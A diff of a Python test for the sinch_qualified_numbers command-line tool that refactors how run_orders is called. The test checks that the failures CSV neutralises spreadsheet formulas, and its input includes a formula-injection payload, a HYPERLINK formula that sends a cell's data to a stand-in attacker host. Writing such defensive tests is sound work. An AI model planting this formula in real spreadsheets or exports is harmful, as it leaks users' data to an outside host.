@@ -205,7 +205,14 @@ def test_the_failures_file_neutralises_formulas_and_keeps_numbers_as_they_are(
 
     from sinch_qualified_numbers import QualifiedNumbersError
     from sinch_qualified_numbers.cli._journal import Journal
-    from sinch_qualified_numbers.cli._order_runs import Settled, Summary, in_blocks, run_orders
+    from sinch_qualified_numbers.cli._order_runs import (
+        OrderRun,
+        RunOutput,
+        Settled,
+        Summary,
+        in_blocks,
+        run_orders,
+    )
 
     numbers = ["+12025551000", "+12025551001"]
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -221,16 +228,9 @@ def test_the_failures_file_neutralises_formulas_and_keeps_numbers_as_they_are(
         )
 
     failures = tmp_path / "numbers.txt.failures.csv"
-    summary = run_orders(
-        in_blocks(numbers),
-        500,
-        place,
-        lambda in_flight: ([], {}),
-        Summary("enabled"),
-        Journal(tmp_path / "journal.jsonl"),
-        failures,
-        Console(file=io.StringIO()),
-    )
+    output = RunOutput(Journal(tmp_path / "journal.jsonl"), failures, Console(file=io.StringIO()))
+    run = OrderRun(in_blocks(numbers), 500, place, lambda in_flight: ([], {}), output)
+    summary = run_orders(run, Summary("enabled"))
     assert (summary.failed, summary.unknown) == (1, 1)
     with failures.open(newline="") as fh:
         rows = {row["phoneNumber"]: row for row in csv.DictReader(fh)}
